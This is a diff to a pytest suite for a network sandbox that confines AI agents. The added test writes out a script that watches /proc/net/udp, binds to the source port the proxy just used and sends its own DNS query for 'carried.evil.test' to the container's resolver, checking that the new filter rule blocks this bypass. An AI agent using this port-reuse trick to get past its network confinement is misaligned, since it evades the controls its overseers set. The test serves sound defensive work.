@@ -12,7 +12,7 @@ import os
 import pytest
 
 from cases import ASK
-from lab import HERE, POLICY, PYTHON, sh
+from lab import HERE, NAMES, POLICY, PYTHON, sh
 
 OUTSIDE = "203.0.113.66"
 MARK = b"CARRIED-OUT"
@@ -183,6 +183,41 @@ def pose_as_resolver(lab, name, ports):
         lab.stop(pose)
 
 
+# Asks from the very port that penstock has just asked from.
+REUSE = r'''
+import socket, struct, sys, time
+def question(name):
+    q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0)
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack(">HH", 1, 1)
+def ports():
+    to = "%08X:0035" % struct.unpack("<I", socket.inet_aton("127.0.0.11"))[0]
+    rows = [x.split() for x in open("/proc/net/udp").read().splitlines()[1:]]
+    return {int(r[1][9:], 16) for r in rows if r[2] == to}
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect(("127.0.0.1", 15053))
+s.settimeout(4)
+s.send(question(sys.argv[1]))
+seen, end = set(), time.time() + 2
+while not seen and time.time() < end:
+    seen = ports()
+s.recv(1000)
+while ports() and time.time() < end:
+    time.sleep(.02)
+for port in seen:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    try:
+        s.bind(("127.0.0.1", port))
+        s.connect(("127.0.0.11", 53))
+        s.send(question("carried.evil.test"))
+        print("got", len(s.recv(1000)))
+    except OSError as e:
+        print("error", type(e).__name__)
+'''
+
+
 @pytest.fixture
 def container(lab):
     """Ports below 1024 are everybody's, and the engine's resolver is there."""
@@ -190,15 +225,21 @@ def container(lab):
     ns = ("ip", "netns", "exec", lab.ns("shared"))
     sh(*ns, "sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=0")
     sh(*ns, "nft", "-f", "-", input=ENGINE)
+    lab.names({**NAMES, **{"slow%d.test" % i: {"A": ["203.0.113.10"],
+                                               "delay": .4}
+                           for i in range(2)}})
     engine = lab.start("shared", PYTHON, os.path.join(HERE, "dnsserver.py"),
                        "127.0.0.11", "44381", os.path.join(lab.dir, "zone"),
                        os.path.join(lab.dir, "engine-asked"), stdout=-1)
     assert engine.stdout.readline() == b"ready\n"
-    lab.up("shared", policy=POLICY.replace("resolvers: [203.0.113.53]",
-                                           "resolvers: [127.0.0.11]"))
+    lab.up("shared", policy=POLICY.replace(
+        "resolvers: [203.0.113.53]", "resolvers: [127.0.0.11]") + "".join(
+            "    - {verdict: allow, hostname: slow%d.test}\n" % i
+            for i in range(2)))
     yield lab
     lab.down()
     lab.stop(engine)
+    lab.names(NAMES)
     sh(*ns, "nft", "delete", "table", "ip", "engine")
     sh(*ns, "sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=1024",
        "net.ipv4.ip_local_port_range=32768 60999")
@@ -221,3 +262,13 @@ def test_an_agent_does_not_become_the_resolver(container):
         said, r = pose_as_resolver(lab, name, ports)
         assert "asked" not in said and OUTSIDE not in r.out, (guard, said, r)
         assert ("refused" in said) == guard.startswith("flt/"), said
+
+
+def test_an_agent_does_not_ask_over_the_resolvers_port(container):
+    lab = container
+    lab.without("flt/docker-dns")
+    r = lab.python(REUSE, "slow0.test")
+    assert "got" in r.out, r
+    assert lab.verb("rules", "apply", "-c", lab.conf).status == 0
+    r = lab.python(REUSE, "slow1.test")
+    assert "got" not in r.out and "error" in r.out, r
